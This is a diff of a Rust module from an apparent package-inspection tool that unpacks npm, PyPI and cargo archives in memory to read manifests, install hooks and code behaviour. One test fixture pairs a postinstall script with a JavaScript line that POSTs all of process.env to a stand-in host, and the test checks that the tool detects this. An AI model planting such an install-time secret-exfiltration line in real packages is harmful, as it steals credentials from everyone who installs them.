@@ -1,26 +1,19 @@
-//! Facts that documents lack, read from an artifact's manifest and list of entries.
-//! Bounded; nothing is executed or written to disk.
+//! What an artifact itself says: facts that its document lacks, and what its code can do.
+//! Unpacked in memory and bounded; nothing is executed or written to disk.
 
 use customs_ecosystem::cargo::facts_from_cargo_toml;
 use customs_ecosystem::npm::NpmRelease;
 use customs_ecosystem::pypi::{Metadata, facts_from_entries};
-use customs_model::{Manifest, RunsCode};
-use flate2::read::MultiGzDecoder;
+use customs_inspect::{Content, Tree, Unpacking, inspect_tree, unpack_file};
+use customs_model::{Inspection, Manifest, RunsCode};
+use serde::{Deserialize, Serialize};
 use std::fs::File;
-use std::io::{self, Read};
+use std::io;
 use std::path::Path;
+use std::sync::Arc;
 
-/// Bounds on an archive of a stranger.
-mod limit {
-    /// Entries.
-    pub const ENTRIES: usize = 200_000;
-    /// Bytes after inflating.
-    pub const INFLATED: u64 = 1 << 30;
-    /// Bytes of a path.
-    pub const PATH: usize = 4096;
-    /// Bytes of a manifest.
-    pub const MANIFEST: u64 = 4 << 20;
-}
+/// Bytes of a manifest.
+const MANIFEST: u64 = 4 << 20;
 
 /// What an artifact is.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
@@ -35,50 +28,82 @@ pub enum Kind {
     Crate,
 }
 
+impl Kind {
+    /// A word for names of files.
+    pub const fn word(self) -> &'static str {
+        match self {
+            Self::Tarball => "tarball",
+            Self::Wheel => "wheel",
+            Self::Sdist => "sdist",
+            Self::Crate => "crate",
+        }
+    }
+}
+
 /// Facts of one artifact. They bind to its digest.
-#[derive(Debug, Clone, Default)]
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct ArtifactFacts {
     /// What of it runs without being called.
     pub runs: RunsCode,
     /// What its own manifest declares, where it has one that can be read.
     pub manifest: Option<Manifest>,
+    /// What its code can do.
+    pub code: Arc<Inspection>,
 }
 
-/// Reads the facts of an artifact.
+/// Reads the facts of an artifact. Parsers go as deep as code is nested: the caller's
+/// thread needs a large stack.
 ///
 /// # Errors
 /// Not such an archive, over a bound, or a manifest that says nothing.
 pub fn read(path: &Path, kind: Kind) -> io::Result<ArtifactFacts> {
-    match kind {
-        Kind::Tarball => tarball(&list_tgz(path, "package.json")?),
-        Kind::Crate => {
-            let listing = list_tgz(path, "Cargo.toml")?;
-            let manifest = listing.manifest.as_deref().unwrap_or_default();
-            let entries = listing.entries.iter().map(String::as_str);
-            let facts = facts_from_cargo_toml(manifest, entries).map_err(io::Error::other)?;
-            Ok(ArtifactFacts {
-                runs: facts.runs(),
-                manifest: None,
-            })
-        }
-        Kind::Wheel => {
-            let listing = list_wheel(path)?;
-            let facts = facts_from_entries(listing.entries.iter().map(String::as_str));
-            Ok(ArtifactFacts {
-                runs: facts.runs(),
-                manifest: metadata(&listing),
-            })
-        }
-        Kind::Sdist => {
-            // Whatever it holds, its build back-end runs when it is installed.
-            let runs = RunsCode {
+    let tree = unpack_file(File::open(path)?, &Unpacking::default())?;
+    let mut facts = declared(&tree, kind)?;
+    facts.code = Arc::new(inspect_tree(&tree));
+    Ok(facts)
+}
+
+fn declared(tree: &Tree, kind: Kind) -> io::Result<ArtifactFacts> {
+    // What is wrong with the archive as a whole, or with where its entries end.
+    let whole = || tree.unread.iter().find(|part| part.path.is_empty());
+    // Whatever a source distribution holds, its build back-end runs when it is installed.
+    if kind == Kind::Sdist {
+        return Ok(ArtifactFacts {
+            runs: RunsCode {
                 build_backend: Some(true),
                 ..RunsCode::default()
-            };
-            let listing = list_tgz(path, "PKG-INFO");
+            },
+            manifest: manifest(tree, |path| inner(path) == "PKG-INFO")
+                .ok()
+                .flatten()
+                .and_then(metadata),
+            ..ArtifactFacts::default()
+        });
+    }
+    if let Some(part) = whole() {
+        return Err(io::Error::other(part.because.clone()));
+    }
+    match kind {
+        Kind::Tarball => tarball(tree),
+        Kind::Crate => {
+            let bytes = manifest(tree, |path| inner(path) == "Cargo.toml")?;
+            let facts = facts_from_cargo_toml(bytes.unwrap_or_default(), paths(tree))
+                .map_err(io::Error::other)?;
             Ok(ArtifactFacts {
-                runs,
-                manifest: listing.ok().as_ref().and_then(metadata),
+                runs: facts.runs(),
+                ..ArtifactFacts::default()
+            })
+        }
+        Kind::Wheel | Kind::Sdist => {
+            let is_metadata = |path: &str| {
+                path.split_once('/').is_some_and(|(folder, file)| {
+                    folder.ends_with(".dist-info") && file == "METADATA"
+                })
+            };
+            Ok(ArtifactFacts {
+                runs: facts_from_entries(paths(tree)).runs(),
+                manifest: manifest(tree, is_metadata)?.and_then(metadata),
+                ..ArtifactFacts::default()
             })
         }
     }
@@ -86,158 +111,118 @@ pub fn read(path: &Path, kind: Kind) -> io::Result<ArtifactFacts> {
 
 /// The tarball's own manifest is what clients run scripts from; a document may say
 /// less ("manifest confusion").
-fn tarball(listing: &Listing) -> io::Result<ArtifactFacts> {
-    let manifest = listing.manifest.as_deref().unwrap_or(b"{}");
-    let release = NpmRelease::read(manifest).map_err(io::Error::other)?;
-    let gyp = listing
-        .inner()
-        .any(|entry| entry.eq_ignore_ascii_case("binding.gyp"));
-    let runs = RunsCode {
-        binding_gyp: Some(gyp),
-        ..release.manifest.runs.clone()
-    };
+fn tarball(tree: &Tree) -> io::Result<ArtifactFacts> {
+    let bytes = manifest(tree, |path| inner(path) == "package.json")?;
+    let release = NpmRelease::read(bytes.unwrap_or(b"{}")).map_err(io::Error::other)?;
+    let gyp = paths(tree).any(|path| inner(path).eq_ignore_ascii_case("binding.gyp"));
     // What it depends on is the document's to say: clients install by that.
     Ok(ArtifactFacts {
-        runs,
-        manifest: None,
+        runs: RunsCode {
+            binding_gyp: Some(gyp),
+            ..release.manifest.runs.clone()
+        },
+        ..ArtifactFacts::default()
     })
 }
 
-fn metadata(listing: &Listing) -> Option<Manifest> {
-    Metadata::parse(listing.manifest.as_deref()?)
-        .ok()
-        .map(|m| m.manifest())
+fn metadata(bytes: &[u8]) -> Option<Manifest> {
+    Metadata::parse(bytes).ok().map(|m| m.manifest())
 }
 
-/// What an archive holds.
-#[derive(Debug, Default)]
-struct Listing {
-    /// Paths, as they stand in the archive.
-    entries: Vec<String>,
-    /// The manifest's bytes, if it was found.
-    manifest: Option<Vec<u8>>,
+/// Paths of the archive itself, without those of archives in it.
+fn paths(tree: &Tree) -> impl Iterator<Item = &str> {
+    let paths = tree.entries.iter().map(|entry| entry.path.as_str());
+    paths.filter(|path| !path.contains("!/"))
 }
 
-impl Listing {
-    /// Paths below the top folder that npm's, cargo's and source archives have.
-    fn inner(&self) -> impl Iterator<Item = &str> {
-        self.entries.iter().map(|path| inner(path))
-    }
-}
-
+/// Below the top folder that npm's, cargo's and source archives have.
 fn inner(path: &str) -> &str {
     path.split_once('/').map_or(path, |(_, inner)| inner)
 }
 
-/// A path as an unpacker resolves it: `package//a` and `./package/./a` are `package/a`.
-fn plain(path: &str) -> String {
-    let parts = path.split('/').filter(|part| !matches!(*part, "" | "."));
-    parts.collect::<Vec<_>>().join("/")
-}
-
-/// Lists a gzip-compressed tar archive. `manifest` is a path below the top folder.
-fn list_tgz(path: &Path, manifest: &str) -> io::Result<Listing> {
-    // Some unpackers read on behind a first member and behind blocks of zeros.
-    let inflated = MultiGzDecoder::new(File::open(path)?);
-    list_tar(inflated.take(limit::INFLATED), manifest)
-}
-
-fn list_tar(inflated: io::Take<impl Read>, manifest: &str) -> io::Result<Listing> {
-    let mut archive = tar::Archive::new(inflated);
-    archive.set_ignore_zeros(true);
-    let mut listing = Listing::default();
-    for entry in archive.entries()? {
-        let mut entry = entry?;
-        if listing.entries.len() == limit::ENTRIES {
-            return Err(too_many());
+/// The bytes of a manifest. Of two the last one is unpacked over the first.
+fn manifest(tree: &Tree, is: impl Fn(&str) -> bool) -> io::Result<Option<&[u8]>> {
+    let mut found = tree
+        .entries
+        .iter()
+        .rev()
+        .filter(|entry| !matches!(entry.content, Content::Link(_)) && !entry.path.contains("!/"));
+    match found.find(|entry| is(&entry.path)) {
+        None => Ok(None),
+        Some(entry) if entry.length > MANIFEST => {
+            Err(io::Error::other("its manifest is over 4 MiB"))
         }
-        let path = entry.path_bytes();
-        if path.len() > limit::PATH {
-            return Err(io::Error::other("a path in the archive is over 4 kB"));
-        }
-        let path = plain(&String::from_utf8_lossy(&path));
-        // Of two the last one is unpacked over the first.
-        if inner(&path) == manifest {
-            listing.manifest = Some(manifest_of(&mut entry)?);
-        }
-        listing.entries.push(path);
+        Some(entry) => entry
+            .bytes()
+            .map(Some)
+            .ok_or_else(|| io::Error::other("its manifest could not be kept in memory")),
     }
-    // An archive that is cut at the bound ends like one that is whole.
-    if archive.into_inner().limit() == 0 {
-        return Err(io::Error::other("the archive unpacks to more than a GiB"));
-    }
-    Ok(listing)
-}
-
-/// Lists a wheel by its central directory, and reads its `METADATA`.
-fn list_wheel(path: &Path) -> io::Result<Listing> {
-    let mut archive = zip::ZipArchive::new(File::open(path)?).map_err(io::Error::other)?;
-    if archive.len() > limit::ENTRIES {
-        return Err(too_many());
-    }
-    let entries: Vec<String> = archive
-        .file_names()
-        .filter_map(|name| Some(name.ok()?.into_owned()))
-        .collect();
-    let is_metadata = |path: &&String| {
-        path.split_once('/')
-            .is_some_and(|(folder, file)| folder.ends_with(".dist-info") && file == "METADATA")
-    };
-    let manifest = match entries.iter().find(is_metadata) {
-        Some(name) => {
-            let mut file = archive.by_name(name).map_err(io::Error::other)?;
-            Some(manifest_of(&mut file)?)
-        }
-        None => None,
-    };
-    Ok(Listing { entries, manifest })
-}
-
-/// The whole of a manifest: what is cut says less than what is there.
-fn manifest_of(file: &mut impl Read) -> io::Result<Vec<u8>> {
-    let mut bytes = Vec::new();
-    file.take(limit::MANIFEST + 1).read_to_end(&mut bytes)?;
-    if bytes.len() as u64 > limit::MANIFEST {
-        return Err(io::Error::other("its manifest is over 4 MiB"));
-    }
-    Ok(bytes)
-}
-
-fn too_many() -> io::Error {
-    io::Error::other("the archive has more than 200,000 entries")
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use std::io::Write as _;
 
-    #[test]
-    fn a_path_is_read_as_an_unpacker_resolves_it() {
-        assert_eq!(inner(&plain("package//binding.gyp")), "binding.gyp");
-        assert_eq!(inner(&plain("./package/./binding.gyp")), "binding.gyp");
-        assert_eq!(inner(&plain("package/lib/binding.gyp")), "lib/binding.gyp");
+    fn archive(entries: &[(&str, &str)]) -> tempfile::NamedTempFile {
+        let file = tempfile::NamedTempFile::new().unwrap();
+        let packed = flate2::write::GzEncoder::new(file, flate2::Compression::fast());
+        let mut builder = tar::Builder::new(packed);
+        for (name, text) in entries {
+            let mut header = tar::Header::new_ustar();
+            header.set_size(text.len() as u64);
+            builder
+                .append_data(&mut header, name, text.as_bytes())
+                .unwrap();
+        }
+        builder.into_inner().unwrap().finish().unwrap()
     }
 
     #[test]
-    fn an_archive_that_is_cut_at_the_bound_is_not_taken_for_whole() {
-        let mut builder = tar::Builder::new(Vec::new());
-        for name in ["package/package.json", "package/binding.gyp"] {
-            let mut header = tar::Header::new_ustar();
-            header.set_size(512);
-            builder
-                .append_data(&mut header, name, &[b' '; 512][..])
-                .unwrap();
-        }
-        let bytes = builder.into_inner().unwrap();
-        let within = |bound: u64| list_tar(bytes.as_slice().take(bound), "package.json");
+    fn a_path_is_read_as_an_unpacker_resolves_it() {
+        let file = archive(&[("package/./binding.gyp", "{}")]);
+        let facts = read(file.path(), Kind::Tarball).unwrap();
+        assert_eq!(facts.runs.binding_gyp, Some(true));
+        let file = archive(&[("package/lib/binding.gyp", "{}")]);
+        let facts = read(file.path(), Kind::Tarball).unwrap();
+        assert_eq!(facts.runs.binding_gyp, Some(false));
+    }
 
-        let whole = within(bytes.len() as u64 + 1).unwrap();
-        assert_eq!(
-            whole.entries,
-            ["package/package.json", "package/binding.gyp"]
-        );
-        // Behind the first entry: what is left reads like the end of an archive.
-        let error = within(1024).unwrap_err();
-        assert!(error.to_string().contains("more than a GiB"), "{error}");
+    #[test]
+    fn of_two_manifests_the_one_that_is_unpacked_last_counts() {
+        let file = archive(&[
+            ("package/package.json", "{}"),
+            (
+                "package/package.json",
+                r#"{"scripts":{"postinstall":"node a.js"}}"#,
+            ),
+        ]);
+        let facts = read(file.path(), Kind::Tarball).unwrap();
+        assert_eq!(facts.runs.at_install(), Some(true));
+    }
+
+    #[test]
+    fn an_archive_that_is_cut_off_is_not_taken_for_whole() {
+        let whole = archive(&[("package/package.json", "{}"), ("package/a.js", "a()")]);
+        let bytes = std::fs::read(whole.path()).unwrap();
+        let mut cut = tempfile::NamedTempFile::new().unwrap();
+        cut.write_all(&bytes[..bytes.len() / 2]).unwrap();
+        assert!(read(cut.path(), Kind::Tarball).is_err());
+    }
+
+    #[test]
+    fn what_code_does_stands_beside_what_a_manifest_declares() {
+        let file = archive(&[
+            (
+                "package/package.json",
+                r#"{"scripts":{"postinstall":"node a.js"}}"#,
+            ),
+            (
+                "package/a.js",
+                "fetch('https://collect.invalid', {method: 'POST', body: JSON.stringify(process.env)})",
+            ),
+        ]);
+        let facts = read(file.path(), Kind::Tarball).unwrap();
+        assert_eq!(facts.code.flows.len(), 1);
     }
 }
